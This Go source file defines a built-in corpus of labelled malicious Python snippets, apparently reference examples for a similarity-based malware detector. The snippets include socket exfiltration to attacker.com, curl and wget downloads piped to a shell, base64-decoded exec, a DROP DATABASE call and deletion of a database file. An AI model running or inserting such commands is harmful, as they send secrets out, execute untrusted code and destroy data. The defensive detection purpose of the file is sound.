package similarity

// Snippet is one known-malicious corpus entry.
type Snippet struct {
	Name string `json:"name"`
	Code string `json:"code"`
}

// BuiltinCorpus returns the curated malicious examples every index starts
// from.
func BuiltinCorpus() []Snippet {
	return []Snippet{
		{Name: "socket_exfil", Code: "import socket\ns=socket.socket();s.connect(('attacker.com',80));s.send(b'secret')"},
		{Name: "curl_pipe_shell", Code: "import os\nos.system('curl http://evil.tld/p | sh')"},
		{Name: "base64_exec", Code: "import base64\nexec(base64.b64decode('...'))"},
		{Name: "popen_download_exec", Code: "from subprocess import Popen\nPopen(['bash','-c','wget http://evil/p; sh p'])"},
		{Name: "psql_drop_database", Code: "import subprocess\nsubprocess.Popen(['psql','-c','DROP DATABASE dbname'])"},
		{Name: "unlink_database_file", Code: "import os\nos.unlink('/var/lib/data/db.sqlite')"},
	}
}
